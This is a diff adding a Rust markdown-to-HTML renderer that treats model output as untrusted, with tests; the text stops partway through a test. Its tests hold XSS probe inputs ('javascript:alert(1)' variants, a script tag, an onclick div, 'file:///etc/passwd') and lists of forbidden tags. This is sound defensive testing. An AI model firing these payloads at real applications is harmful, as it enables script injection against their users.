@@ -1,0 +1,1301 @@
+//! Markdown → HTML rendering for untrusted text (model output, pasted user text).
+//!
+//! Owns [`render`], the only way chat content becomes markup. The UI assigns its result to
+//! `innerHTML`, so this module is the XSS boundary of the app.
+//!
+//! Design: rather than sanitising HTML after the fact (no `ammonia`, to keep the wasm small), raw
+//! HTML never gets through at all. The `pulldown_cmark` event stream is filtered before
+//! `pulldown_cmark::html::push_html` sees it, and every piece of markup that is not produced by
+//! `push_html` from a known-safe event is built here from fixed strings plus escaped values.
+//!
+//! Invariants of the returned HTML, for any input:
+//! - Raw HTML from the input (blocks and inline) is shown as escaped text, never as markup.
+//! - Every `<` in the output starts a tag this module or `push_html` wrote; all text is escaped.
+//! - The only elements are structural/text ones (`p`, `em`, `table`, `ul`, `a`, `span`, `div`,
+//!   `pre`, `code`, `button`, …). There is never an `<img>`, `<script>`, `<style>`, `<iframe>`,
+//!   form element, or any element that fetches something on render.
+//! - There are no `on*`, `style`, `src`, `srcset`, `id` or `name` attributes. Table alignment
+//!   is carried by the classes `md-align-left|center|right`.
+//! - Every `href` is absolute `http://`/`https://` (with `//`) or `mailto:`; other links,
+//!   including relative, fragment and protocol-relative ones, render as their text only. Links
+//!   carry `rel="noopener noreferrer nofollow" target="_blank"`.
+//! - Images render as a `md-image-blocked` placeholder showing the alt text, followed by a plain
+//!   link to the image URL when that URL is http(s).
+//! - Code blocks render inside a `code-block` wrapper with a `copy-code` button; the language
+//!   label is restricted to `[A-Za-z0-9_+#.-]{1,32}`.
+//! - Output size is linear in input size: inputs over [`MAX_MARKDOWN_BYTES`] are shown as
+//!   escaped plain text, and inputs whose tables could be padded into a huge number of empty
+//!   cells are parsed with tables disabled.
+//!
+//! Classes the stylesheet can target: `code-block`, `code-head`, `code-lang`, `copy-code` (the UI
+//! copies the sibling `<code>` text), `md-image-blocked`, `md-task`/`md-task-done` (task list
+//! markers, shown as ☑/☐ instead of `<input>`), `md-align-left|center|right` (table cells),
+//! `md-raw-html` (a `<p>` holding an input HTML block as text; its newlines are kept in the text,
+//! so `white-space: pre-wrap` shows them) and `md-plain` (the oversized-input fallback `<pre>`).
+//!
+//! Pure: no IO, clock, randomness or browser APIs.
+
+use pulldown_cmark::{
+    html, Alignment, CodeBlockKind, CowStr, Event, LinkType, Options, Parser, Tag, TagEnd,
+};
+
+/// Largest input, in bytes, that is parsed as markdown. Longer input is rendered as escaped plain
+/// text in a `<pre class="md-plain">`, which bounds parse time and memory for pathological input.
+pub const MAX_MARKDOWN_BYTES: usize = 200_000;
+
+/// Longest code-block language label that is kept; longer labels are dropped.
+const MAX_LANG_LEN: usize = 32;
+
+/// Upper bound on the empty table cells the parser may synthesise before tables are disabled.
+///
+/// GFM pads short table rows with empty cells, so a wide header followed by many one-cell rows
+/// turns a few bytes of input into kilobytes of output (pulldown-cmark caps this per table, not
+/// per document: ~190 KB of tables became ~145 MB of HTML in testing).
+const MAX_TABLE_PADDING: u64 = 1 << 16;
+
+/// Attributes every emitted link carries, after its `href`.
+const LINK_ATTRS: &str = r#" rel="noopener noreferrer nofollow" target="_blank""#;
+
+/// Render untrusted markdown (model output) to HTML that is safe to assign to innerHTML.
+///
+/// Supports CommonMark plus tables, strikethrough and task lists. See the module docs for the
+/// guarantees on the output. Input longer than [`MAX_MARKDOWN_BYTES`] bytes is not parsed: it is
+/// returned as escaped text inside `<pre class="md-plain">…</pre>`.
+pub fn render(markdown: &str) -> String {
+    if markdown.len() > MAX_MARKDOWN_BYTES {
+        return render_plain(markdown);
+    }
+    let mut options = Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
+    if table_padding_bound(markdown) <= MAX_TABLE_PADDING {
+        options |= Options::ENABLE_TABLES;
+    }
+    let mut filter = Filter::default();
+    let events = Parser::new_ext(markdown, options).filter_map(|event| filter.map(event));
+    let mut out = String::with_capacity(markdown.len() + markdown.len() / 2 + 64);
+    html::push_html(&mut out, events);
+    out
+}
+
+/// The fallback for oversized input: the whole text, escaped, in a `<pre class="md-plain">`.
+fn render_plain(text: &str) -> String {
+    let mut out = String::with_capacity(text.len() + text.len() / 8 + 32);
+    out.push_str(r#"<pre class="md-plain">"#);
+    push_escaped(&mut out, text);
+    out.push_str("</pre>\n");
+    out
+}
+
+/// Rewrites parser events into safe ones. Each input event maps to at most one output event.
+#[derive(Default)]
+struct Filter {
+    /// One entry per open link: whether an `<a>` was emitted for it (i.e. its URL was allowed).
+    links: Vec<bool>,
+    /// The image being collected, if inside `Start(Image)` … `End(Image)`.
+    image: Option<PendingImage>,
+    /// Alignments of the current table's columns.
+    alignments: Vec<Alignment>,
+    /// Whether the current table cells are header cells.
+    in_table_head: bool,
+    /// Index of the next cell in the current table row.
+    cell_index: usize,
+}
+
+/// An image whose alt text is being collected.
+struct PendingImage {
+    /// Nesting depth of `Start(Image)` events (alt text may itself contain images).
+    depth: usize,
+    /// The image URL, if it is an allowed http(s) URL.
+    url: Option<String>,
+    /// The alt text collected so far (unescaped).
+    alt: String,
+}
+
+impl Filter {
+    /// Maps one parser event to the event handed to `push_html`, or drops it.
+    fn map<'a>(&mut self, event: Event<'a>) -> Option<Event<'a>> {
+        if let Some(image) = self.image.as_mut() {
+            match event {
+                Event::Start(Tag::Image { .. }) => image.depth = image.depth.saturating_add(1),
+                Event::End(TagEnd::Image) => {
+                    image.depth = image.depth.saturating_sub(1);
+                    if image.depth == 0 {
+                        let image = self.image.take()?;
+                        return Some(Event::Html(self.image_html(image).into()));
+                    }
+                }
+                Event::Text(text)
+                | Event::Code(text)
+                | Event::Html(text)
+                | Event::InlineHtml(text)
+                | Event::InlineMath(text)
+                | Event::DisplayMath(text) => image.alt.push_str(&text),
+                Event::SoftBreak | Event::HardBreak => image.alt.push(' '),
+                _ => {}
+            }
+            return None;
+        }
+        match event {
+            // Raw HTML from the input is shown literally; push_html escapes Text.
+            Event::Html(raw) | Event::InlineHtml(raw) => Some(Event::Text(raw)),
+            Event::Start(tag) => self.start(tag),
+            Event::End(tag) => self.end(tag),
+            // Footnotes are not enabled; if they ever were, push_html would emit `href="#…"`.
+            Event::FootnoteReference(name) => Some(Event::Text(format!("[^{name}]").into())),
+            // push_html would emit an <input>.
+            Event::TaskListMarker(done) => Some(Event::Html(
+                if done {
+                    r#"<span class="md-task md-task-done" role="img" aria-label="Done">☑</span> "#
+                } else {
+                    r#"<span class="md-task" role="img" aria-label="Not done">☐</span> "#
+                }
+                .into(),
+            )),
+            other => Some(other),
+        }
+    }
+
+    /// Maps a `Start` event.
+    fn start<'a>(&mut self, tag: Tag<'a>) -> Option<Event<'a>> {
+        let event = match tag {
+            // Heading attributes are not enabled; drop them anyway (no ids: DOM clobbering).
+            Tag::Heading { level, .. } => Event::Start(Tag::Heading {
+                level,
+                id: None,
+                classes: Vec::new(),
+                attrs: Vec::new(),
+            }),
+            // The block's content arrives as Html events, which become escaped text.
+            Tag::HtmlBlock => Event::Html(r#"<p class="md-raw-html">"#.into()),
+            Tag::CodeBlock(kind) => Event::Html(code_block_open(&kind).into()),
+            Tag::Table(alignments) => {
+                self.alignments = alignments;
+                // push_html would turn alignments into style attributes.
+                Event::Start(Tag::Table(Vec::new()))
+            }
+            Tag::TableHead => {
+                self.in_table_head = true;
+                self.cell_index = 0;
+                Event::Start(Tag::TableHead)
+            }
+            Tag::TableRow => {
+                self.cell_index = 0;
+                Event::Start(Tag::TableRow)
+            }
+            Tag::TableCell => Event::Html(self.table_cell_open().into()),
+            Tag::FootnoteDefinition(_) => {
+                Event::Html(r#"<div class="footnote-definition">"#.into())
+            }
+            Tag::Link {
+                link_type,
+                dest_url,
+                title,
+                ..
+            } => match allowed_url(&dest_url, link_type) {
+                Some((url, _)) => {
+                    self.links.push(true);
+                    let mut html = String::new();
+                    push_anchor_open(&mut html, &url, &title);
+                    Event::Html(html.into())
+                }
+                None => {
+                    self.links.push(false);
+                    return None;
+                }
+            },
+            Tag::Image {
+                link_type,
+                dest_url,
+                ..
+            } => {
+                let url = allowed_url(&dest_url, link_type)
+                    .filter(|(_, scheme)| *scheme == Scheme::Web)
+                    .map(|(url, _)| url);
+                self.image = Some(PendingImage {
+                    depth: 1,
+                    url,
+                    alt: String::new(),
+                });
+                return None;
+            }
+            other => Event::Start(other),
+        };
+        Some(event)
+    }
+
+    /// Maps an `End` event.
+    fn end<'a>(&mut self, tag: TagEnd) -> Option<Event<'a>> {
+        let event = match tag {
+            TagEnd::HtmlBlock => Event::Html("</p>\n".into()),
+            TagEnd::CodeBlock => Event::Html("</code></pre></div>\n".into()),
+            TagEnd::TableHead => {
+                self.in_table_head = false;
+                Event::End(TagEnd::TableHead)
+            }
+            TagEnd::TableCell => {
+                self.cell_index = self.cell_index.saturating_add(1);
+                Event::End(TagEnd::TableCell)
+            }
+            TagEnd::Table => {
+                self.alignments.clear();
+                Event::End(TagEnd::Table)
+            }
+            TagEnd::Link => {
+                return match self.links.pop() {
+                    Some(true) => Some(Event::Html("</a>".into())),
+                    _ => None,
+                }
+            }
+            // Only reachable without a matching Start, which the parser never produces.
+            TagEnd::Image => return None,
+            other => Event::End(other),
+        };
+        Some(event)
+    }
+
+    /// The opening `<th>`/`<td>` of the next cell, with its alignment class.
+    fn table_cell_open(&self) -> &'static str {
+        let align = self
+            .alignments
+            .get(self.cell_index)
+            .copied()
+            .unwrap_or(Alignment::None);
+        match (self.in_table_head, align) {
+            (true, Alignment::None) => "<th>",
+            (true, Alignment::Left) => r#"<th class="md-align-left">"#,
+            (true, Alignment::Center) => r#"<th class="md-align-center">"#,
+            (true, Alignment::Right) => r#"<th class="md-align-right">"#,
+            (false, Alignment::None) => "<td>",
+            (false, Alignment::Left) => r#"<td class="md-align-left">"#,
+            (false, Alignment::Center) => r#"<td class="md-align-center">"#,
+            (false, Alignment::Right) => r#"<td class="md-align-right">"#,
+        }
+    }
+
+    /// The placeholder for a finished image, plus a link to it when its URL is http(s) and the
+    /// image is not already inside a link (nested `<a>` is invalid HTML).
+    fn image_html(&self, image: PendingImage) -> String {
+        let mut html =
+            String::from(r#"<span class="md-image-blocked" title="Image not loaded">🖼 Image"#);
+        let alt = image.alt.trim();
+        if !alt.is_empty() {
+            html.push_str(": ");
+            push_escaped(&mut html, alt);
+        }
+        html.push_str("</span>");
+        let inside_link = self.links.iter().any(|&emitted| emitted);
+        if let Some(url) = image.url.filter(|_| !inside_link) {
+            html.push(' ');
+            push_anchor_open(&mut html, &url, "");
+            push_escaped(&mut html, &url);
+            html.push_str("</a>");
+        }
+        html
+    }
+}
+
+/// The kind of an allowed link target.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Scheme {
+    /// `http://` or `https://`.
+    Web,
+    /// `mailto:`.
+    Mailto,
+}
+
+/// Returns the URL a browser would see for `dest`, if it is an allowed link target.
+///
+/// Mirrors the WHATWG URL parser's preprocessing: leading/trailing C0 controls and spaces are
+/// trimmed and tabs/newlines anywhere are removed (so `java\tscript:` is `javascript:`). Only
+/// `http://`, `https://` and `mailto:` are allowed (scheme case-insensitive). Everything else —
+/// other schemes, relative paths, fragments, `//host`, and `https:path` (which browsers resolve
+/// against the page) — is rejected. `dest` is already entity-decoded by the parser.
+fn allowed_url(dest: &str, link_type: LinkType) -> Option<(String, Scheme)> {
+    let mut url: String = dest
+        .trim_matches(|c: char| c <= ' ')
+        .chars()
+        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
+        .collect();
+    if link_type == LinkType::Email {
+        url.insert_str(0, "mailto:");
+    }
+    let (scheme, rest) = url.split_once(':')?;
+    let kind = if scheme.eq_ignore_ascii_case("mailto") {
+        Scheme::Mailto
+    } else if (scheme.eq_ignore_ascii_case("https") || scheme.eq_ignore_ascii_case("http"))
+        && rest.starts_with("//")
+    {
+        Scheme::Web
+    } else {
+        return None;
+    };
+    Some((url, kind))
+}
+
+/// Appends `<a href="URL" rel=… target="_blank"[ title="TITLE"]>` with both values escaped.
+fn push_anchor_open(out: &mut String, url: &str, title: &str) {
+    out.push_str("<a href=\"");
+    push_href(out, url);
+    out.push('"');
+    out.push_str(LINK_ATTRS);
+    if !title.is_empty() {
+        out.push_str(" title=\"");
+        push_escaped(out, title);
+        out.push('"');
+    }
+    out.push('>');
+}
+
+/// Appends `url` for use inside a double-quoted `href`: ASCII controls, space, quotes and angle
+/// brackets are percent-encoded, `&` and `'` are entity-escaped, everything else is kept.
+fn push_href(out: &mut String, url: &str) {
+    for c in url.chars() {
+        match c {
+            '&' => out.push_str("&amp;"),
+            '\'' => out.push_str("&#39;"),
+            c if c.is_ascii_control() || matches!(c, ' ' | '"' | '<' | '>' | '`') => {
+                // ASCII, so the code point is the single UTF-8 byte.
+                const HEX: &[u8; 16] = b"0123456789ABCDEF";
+                let byte = c as u32;
+                out.push('%');
+                out.push(char::from(HEX[(byte >> 4) as usize & 0xF]));
+                out.push(char::from(HEX[byte as usize & 0xF]));
+            }
+            c => out.push(c),
+        }
+    }
+}
+
+/// Appends `text` escaped for HTML text or a quoted attribute value (`& < > " '`).
+fn push_escaped(out: &mut String, text: &str) {
+    for c in text.chars() {
+        match c {
+            '&' => out.push_str("&amp;"),
+            '<' => out.push_str("&lt;"),
+            '>' => out.push_str("&gt;"),
+            '"' => out.push_str("&quot;"),
+            '\'' => out.push_str("&#39;"),
+            c => out.push(c),
+        }
+    }
+}
+
+/// The opening markup of a code block: wrapper, header with language label and copy button,
+/// then `<pre><code>`.
+fn code_block_open(kind: &CodeBlockKind<'_>) -> String {
+    let lang = match kind {
+        CodeBlockKind::Fenced(info) => code_lang(info),
+        CodeBlockKind::Indented => "",
+    };
+    let mut html =
+        String::from(r#"<div class="code-block"><div class="code-head"><span class="code-lang">"#);
+    push_escaped(&mut html, lang);
+    html.push_str(
+        r#"</span><button type="button" class="copy-code" aria-label="Copy code">Copy</button></div><pre><code"#,
+    );
+    if !lang.is_empty() {
+        html.push_str(r#" class="language-"#);
+        push_escaped(&mut html, lang);
+        html.push('"');
+    }
+    html.push('>');
+    html
+}
+
+/// The language label of a fence info string: its first word (up to whitespace or `,`), or `""`
+/// if that word is longer than [`MAX_LANG_LEN`] or has a character outside `[A-Za-z0-9_+#.-]`.
+fn code_lang<'a>(info: &'a CowStr<'_>) -> &'a str {
+    let word = info
+        .split(|c: char| c.is_whitespace() || c == ',')
+        .next()
+        .unwrap_or("");
+    let valid = word.len() <= MAX_LANG_LEN
+        && word
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'+' | b'#' | b'.' | b'-'));
+    if valid {
+        word
+    } else {
+        ""
+    }
+}
+
+/// An upper bound on the empty cells GFM table parsing could add to `markdown`.
+///
+/// A table starts where a delimiter row follows its header; after the container prefix
+/// (`>` markers and indentation) a delimiter row holds only ` `, `:`, `-` and `|`, with at least
+/// one `|` and one `-`, and its column count is computed below exactly as the parser does. The
+/// table's rows end at the next blank line at the latest, and each row has at least one cell of
+/// its own, so it is padded with at most (columns − 1) cells. Summing that, over every line, for
+/// all delimiter-like lines since the last blank line bounds the padding. Overestimates only
+/// cost tables (they get disabled), never safety.
+fn table_padding_bound(markdown: &str) -> u64 {
+    let mut bound: u64 = 0;
+    let mut open_padding: u64 = 0;
+    // Line endings are `\n`, `\r\n` and `\r`, as in CommonMark.
+    let lines = markdown
+        .split('\n')
+        .flat_map(|line| line.strip_suffix('\r').unwrap_or(line).split('\r'));
+    for line in lines {
+        if line.bytes().all(|b| b == b' ' || b == b'\t') {
+            open_padding = 0;
+            continue;
+        }
+        bound = bound.saturating_add(open_padding);
+        if let Some(columns) = delimiter_columns(line) {
+            open_padding = open_padding.saturating_add(columns.saturating_sub(1));
+        }
+    }
+    bound
+}
+
+/// The column count of `line` if it could be a table delimiter row (possibly after container
+/// prefixes), counted like pulldown-cmark's `scan_table_head`: a leading `|` is skipped, every
+/// other `|` closes a column, and non-space text after the last `|` is one more column.
+fn delimiter_columns(line: &str) -> Option<u64> {
+    let row = line.trim_start_matches([' ', '\t', '>']);
+    let valid = row.contains('|')
+        && row.contains('-')
+        && row
+            .bytes()
+            .all(|b| matches!(b, b'|' | b'-' | b':' | b' ' | b'\t'));
+    if !valid {
+        return None;
+    }
+    let row = row.strip_prefix('|').unwrap_or(row);
+    let pipes = row.bytes().filter(|&b| b == b'|').count() as u64;
+    let tail = row.rsplit('|').next().unwrap_or("");
+    let trailing = u64::from(tail.bytes().any(|b| b != b' ' && b != b'\t'));
+    Some(pipes + trailing)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use proptest::prelude::*;
+
+    /// Elements that must never appear: they run script, fetch on render, or change the page.
+    const FORBIDDEN_TAGS: &[&str] = &[
+        "script",
+        "img",
+        "iframe",
+        "svg",
+        "math",
+        "style",
+        "link",
+        "meta",
+        "base",
+        "object",
+        "embed",
+        "form",
+        "input",
+        "video",
+        "audio",
+        "source",
+        "picture",
+        "noscript",
+        "details",
+        "frame",
+        "frameset",
+        "template",
+        "textarea",
+        "select",
+        "applet",
+        "track",
+        "area",
+        "body",
+        "html",
+        "head",
+        "title",
+        "xmp",
+        "plaintext",
+        "dialog",
+    ];
+
+    /// The only elements render may produce.
+    const ALLOWED_TAGS: &[&str] = &[
+        "p",
+        "em",
+        "strong",
+        "del",
+        "a",
+        "code",
+        "pre",
+        "div",
+        "span",
+        "button",
+        "h1",
+        "h2",
+        "h3",
+        "h4",
+        "h5",
+        "h6",
+        "ul",
+        "ol",
+        "li",
+        "blockquote",
+        "table",
+        "thead",
+        "tbody",
+        "tr",
+        "th",
+        "td",
+        "br",
+        "hr",
+        "sup",
+        "sub",
+        "dl",
+        "dt",
+        "dd",
+    ];
+
+    /// The only attributes render may produce.
+    const ALLOWED_ATTRS: &[&str] = &[
+        "href",
+        "rel",
+        "target",
+        "title",
+        "class",
+        "type",
+        "aria-label",
+        "role",
+        "start",
+    ];
+
+    /// Attributes whose value is a URL the browser may load or navigate to.
+    const URL_ATTRS: &[&str] = &[
+        "href",
+        "src",
+        "action",
+        "formaction",
+        "data",
+        "poster",
+        "background",
+        "xlink:href",
+        "cite",
+        "ping",
+    ];
+
+    /// A few characters either side of `at`, for failure messages.
+    fn around(html: &str, at: usize) -> String {
+        let start = html.floor_char_boundary(at.saturating_sub(60));
+        let end = html.ceil_char_boundary((at + 60).min(html.len()));
+        html[start..end].to_owned()
+    }
+
+    /// Asserts the safety invariants on rendered HTML, without an HTML parser: since all text is
+    /// escaped, every literal `<` starts a tag, and each tag is scanned attribute by attribute.
+    fn assert_safe(html: &str) {
+        let bytes = html.as_bytes();
+        let len = bytes.len();
+        let mut i = 0;
+        while i < len {
+            if bytes[i] != b'<' {
+                i += 1;
+                continue;
+            }
+            let tag_start = i;
+            i += 1;
+            let closing = bytes.get(i) == Some(&b'/');
+            if closing {
+                i += 1;
+            }
+            let name_start = i;
+            while i < len && bytes[i].is_ascii_alphanumeric() {
+                i += 1;
+            }
+            let name = html[name_start..i].to_ascii_lowercase();
+            let ctx = || around(html, tag_start);
+            assert!(
+                !name.is_empty(),
+                "literal '<' that is not a tag: {:?}",
+                ctx()
+            );
+            assert!(
+                !FORBIDDEN_TAGS.contains(&name.as_str()),
+                "forbidden <{name}>: {:?}",
+                ctx()
+            );
+            assert!(
+                ALLOWED_TAGS.contains(&name.as_str()),
+                "unexpected <{name}>: {:?}",
+                ctx()
+            );
+            let mut attrs: Vec<(String, Option<&str>)> = Vec::new();
+            loop {
+                while i < len && bytes[i].is_ascii_whitespace() {
+                    i += 1;
+                }
+                match bytes.get(i) {
+                    None => panic!("unterminated tag: {:?}", ctx()),
+                    Some(b'>') => {
+                        i += 1;
+                        break;
+                    }
+                    Some(b'/') if bytes.get(i + 1) == Some(&b'>') => {
+                        i += 2;
+                        break;
+                    }
+                    _ => {}
+                }
+                assert!(!closing, "attributes on a closing tag: {:?}", ctx());
+                let attr_start = i;
+                while i < len
+                    && !bytes[i].is_ascii_whitespace()
+                    && !matches!(bytes[i], b'=' | b'>' | b'/')
+                {
+                    i += 1;
+                }
+                let attr = html[attr_start..i].to_ascii_lowercase();
+                assert!(!attr.is_empty(), "junk inside tag: {:?}", ctx());
+                let mut value = None;
+                if bytes.get(i) == Some(&b'=') {
+                    i += 1;
+                    match bytes.get(i) {
+                        Some(&quote @ (b'"' | b'\'')) => {
+                            i += 1;
+                            let value_start = i;
+                            while i < len && bytes[i] != quote {
+                                i += 1;
+                            }
+                            assert!(i < len, "unterminated attribute value: {:?}", ctx());
+                            value = Some(&html[value_start..i]);
+                            i += 1;
+                        }
+                        _ => {
+                            let value_start = i;
+                            while i < len && !bytes[i].is_ascii_whitespace() && bytes[i] != b'>' {
+                                i += 1;
+                            }
+                            value = Some(&html[value_start..i]);
+                        }
+                    }
+                }
+                assert!(!attr.starts_with("on"), "event handler {attr}: {:?}", ctx());
+                for banned in ["style", "srcset", "poster", "srcdoc", "id", "name"] {
+                    assert_ne!(attr, banned, "banned attribute: {:?}", ctx());
+                }
+                assert!(
+                    ALLOWED_ATTRS.contains(&attr.as_str()),
+                    "unexpected attribute {attr}: {:?}",
+                    ctx()
+                );
+                if URL_ATTRS.contains(&attr.as_str()) {
+                    let url = value.unwrap_or("").to_ascii_lowercase();
+                    assert!(
+                        url.starts_with("https://")
+                            || url.starts_with("http://")
+                            || url.starts_with("mailto:"),
+                        "disallowed URL in {attr}: {:?}",
+                        ctx()
+                    );
+                }
+                attrs.push((attr, value));
+            }
+            if name == "a" && !closing {
+                let get = |key: &str| attrs.iter().find(|(k, _)| k == key).and_then(|(_, v)| *v);
+                assert!(get("href").is_some(), "<a> without href: {:?}", ctx());
+                assert_eq!(
+                    get("rel"),
+                    Some("noopener noreferrer nofollow"),
+                    "{:?}",
+                    ctx()
+                );
+                assert_eq!(get("target"), Some("_blank"), "{:?}", ctx());
+            }
+        }
+    }
+
+    /// Asserts the exact rendering of `input` (and that it is safe).
+    fn check(input: &str, expected: &str) {
+        let html = render(input);
+        assert_eq!(html, expected, "input: {input:?}");
+        assert_safe(&html);
+    }
+
+    const COPY: &str =
+        r#"<button type="button" class="copy-code" aria-label="Copy code">Copy</button>"#;
+    const REL: &str = r#"rel="noopener noreferrer nofollow" target="_blank""#;
+
+    #[test]
+    fn renders_simple_markdown_exactly() {
+        let cases: Vec<(&str, String)> = vec![
+            ("Hello", "<p>Hello</p>\n".into()),
+            ("", String::new()),
+            (
+                "*a* **b** ~~c~~ `<d>`",
+                "<p><em>a</em> <strong>b</strong> <del>c</del> <code>&lt;d&gt;</code></p>\n"
+                    .into(),
+            ),
+            ("# Title {#id .cls}", "<h1>Title {#id .cls}</h1>\n".into()),
+            ("a & b < c > d \"e\"", "<p>a &amp; b &lt; c &gt; d \"e\"</p>\n".into()),
+            ("- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n".into()),
+            ("> quote", "<blockquote>\n<p>quote</p>\n</blockquote>\n".into()),
+            (
+                "- [x] done\n- [ ] todo",
+                "<ul>\n<li><span class=\"md-task md-task-done\" role=\"img\" aria-label=\"Done\">☑</span> done</li>\n\
+                 <li><span class=\"md-task\" role=\"img\" aria-label=\"Not done\">☐</span> todo</li>\n</ul>\n"
+                    .into(),
+            ),
+            (
+                "```rust\nlet a = 1 < 2 && \"x\";\n```",
+                format!(
+                    "<div class=\"code-block\"><div class=\"code-head\"><span class=\"code-lang\">rust</span>{COPY}</div>\
+                     <pre><code class=\"language-rust\">let a = 1 &lt; 2 &amp;&amp; \"x\";\n</code></pre></div>\n"
+                ),
+            ),
+            (
+                "```c++ extra words\nx\n```",
+                format!(
+                    "<div class=\"code-block\"><div class=\"code-head\"><span class=\"code-lang\">c++</span>{COPY}</div>\
+                     <pre><code class=\"language-c++\">x\n</code></pre></div>\n"
+                ),
+            ),
+            (
+                "```\nplain\n```",
+                format!(
+                    "<div class=\"code-block\"><div class=\"code-head\"><span class=\"code-lang\"></span>{COPY}</div>\
+                     <pre><code>plain\n</code></pre></div>\n"
+                ),
+            ),
+            (
+                "    indented <b>\n",
+                format!(
+                    "<div class=\"code-block\"><div class=\"code-head\"><span class=\"code-lang\"></span>{COPY}</div>\
+                     <pre><code>indented &lt;b&gt;\n</code></pre></div>\n"
+                ),
+            ),
+            (
+                "| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |",
+                "<table><thead><tr><th class=\"md-align-left\">a</th><th class=\"md-align-center\">b</th>\
+                 <th class=\"md-align-right\">c</th></tr></thead><tbody>\n\
+                 <tr><td class=\"md-align-left\">1</td><td class=\"md-align-center\">2</td>\
+                 <td class=\"md-align-right\">3</td></tr>\n</tbody></table>\n"
+                    .into(),
+            ),
+            (
+                "| a | b |\n|---|---|\n| 1 |",
+                "<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody>\n\
+                 <tr><td>1</td><td></td></tr>\n</tbody></table>\n"
+                    .into(),
+            ),
+            (
+                "[site](https://a.test/x?y=1&z=2)",
+                format!("<p><a href=\"https://a.test/x?y=1&amp;z=2\" {REL}>site</a></p>\n"),
+            ),
+            (
+                "[t](HTTP://A.TEST \"it's \\\"q\\\"\")",
+                format!("<p><a href=\"HTTP://A.TEST\" {REL} title=\"it&#39;s &quot;q&quot;\">t</a></p>\n"),
+            ),
+            (
+                "[sp](<https://a.test/a b'c>)",
+                format!("<p><a href=\"https://a.test/a%20b&#39;c\" {REL}>sp</a></p>\n"),
+            ),
+            (
+                "<https://a.test> <me@x.test>",
+                format!(
+                    "<p><a href=\"https://a.test\" {REL}>https://a.test</a> \
+                     <a href=\"mailto:me@x.test\" {REL}>me@x.test</a></p>\n"
+                ),
+            ),
+            (
+                "[mail](mailto:me@x.test)",
+                format!("<p><a href=\"mailto:me@x.test\" {REL}>mail</a></p>\n"),
+            ),
+            ("[bad *x*](javascript:alert(1))", "<p>bad <em>x</em></p>\n".into()),
+            ("[rel](/relative) [frag](#top)", "<p>rel frag</p>\n".into()),
+            ("[r][1]\n\n[1]: ftp://a.test", "<p>r</p>\n".into()),
+            (
+                "![a <b> \"c\"](https://i.test/p.png)",
+                format!(
+                    "<p><span class=\"md-image-blocked\" title=\"Image not loaded\">🖼 Image: a &lt;b&gt; &quot;c&quot;</span> \
+                     <a href=\"https://i.test/p.png\" {REL}>https://i.test/p.png</a></p>\n"
+                ),
+            ),
+            (
+                "![*x* `y`][r]\n\n[r]: https://i.test/r.png",
+                format!(
+                    "<p><span class=\"md-image-blocked\" title=\"Image not loaded\">🖼 Image: x y</span> \
+                     <a href=\"https://i.test/r.png\" {REL}>https://i.test/r.png</a></p>\n"
+                ),
+            ),
+            (
+                "![](data:image/png;base64,AAAA)",
+                "<p><span class=\"md-image-blocked\" title=\"Image not loaded\">🖼 Image</span></p>\n"
+                    .into(),
+            ),
+            (
+                "[![logo](https://i.test/l.png)](https://l.test)",
+                format!(
+                    "<p><a href=\"https://l.test\" {REL}><span class=\"md-image-blocked\" \
+                     title=\"Image not loaded\">🖼 Image: logo</span></a></p>\n"
+                ),
+            ),
+            (
+                "<div onclick=\"x()\">\nhi\n</div>",
+                "<p class=\"md-raw-html\">&lt;div onclick=\"x()\"&gt;\nhi\n&lt;/div&gt;</p>\n".into(),
+            ),
+            ("a <b>bold</b>", "<p>a &lt;b&gt;bold&lt;/b&gt;</p>\n".into()),
+            // Footnotes are off: `[^1]: note` is a link reference definition to the relative URL
+            // `note`, so the reference renders as its text.
+            ("a[^1]\n\n[^1]: note", "<p>a^1</p>\n".into()),
+            ("a[^1] b", "<p>a[^1] b</p>\n".into()),
+        ];
+        for (input, expected) in &cases {
+            check(input, expected);
+        }
+    }
+
+    #[test]
+    fn oversized_input_is_escaped_plain_text() {
+        let input = format!(
+            "{}<script>alert('x')</script>",
+            "# a\n".repeat(MAX_MARKDOWN_BYTES / 4)
+        );
+        assert!(input.len() > MAX_MARKDOWN_BYTES);
+        let html = render(&input);
+        assert!(html.starts_with("<pre class=\"md-plain\"># a\n# a\n"));
+        assert!(html.ends_with("&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;</pre>\n"));
+        assert_safe(&html);
+        // Exactly at the limit it is still markdown.
+        let at_limit = "a".repeat(MAX_MARKDOWN_BYTES);
+        assert!(render(&at_limit).starts_with("<p>"));
+    }
+
+    #[test]
+    fn allowed_url_accepts_only_absolute_web_and_mailto() {
+        let allowed = [
+            ("https://a.test", "https://a.test", Scheme::Web),
+            ("HtTpS://a.test/p?q#f", "HtTpS://a.test/p?q#f", Scheme::Web),
+            ("http://a.test", "http://a.test", Scheme::Web),
+            ("  \u{1}https://a.test \n", "https://a.test", Scheme::Web),
+            ("ht\ttp\ns://a.test", "https://a.test", Scheme::Web),
+            ("mailto:me@x.test", "mailto:me@x.test", Scheme::Mailto),
+        ];
+        for (dest, url, scheme) in allowed {
+            assert_eq!(
+                allowed_url(dest, LinkType::Inline),
+                Some((url.to_owned(), scheme)),
+                "{dest:?}"
+            );
+        }
+        assert_eq!(
+            allowed_url("me@x.test", LinkType::Email),
+            Some(("mailto:me@x.test".to_owned(), Scheme::Mailto))
+        );
+        let rejected = [
+            "",
+            "javascript:alert(1)",
+            "JaVaScRiPt:alert(1)",
+            "java\tscript:alert(1)",
+            "\u{0}javascript:alert(1)",
+            "vbscript:msgbox(1)",
+            "data:text/html,x",
+            "file:///etc/passwd",
+            "//attacker.test",
+            "/relative",
+            "relative/path",
+            "#fragment",
+            "?query",
+            "https:relative",
+            "https:/relative",
+            "\u{a0}https://a.test",
+            "%68ttps://a.test",
+            "https\u{200b}://a.test",
+        ];
+        for dest in rejected {
+            assert_eq!(allowed_url(dest, LinkType::Inline), None, "{dest:?}");
+        }
+    }
+
+    #[test]
+    fn delimiter_columns_matches_the_parser() {
+        let rows = [
+            ("|-|-|", 2),
+            ("-|-", 2),
+            ("|-", 1),
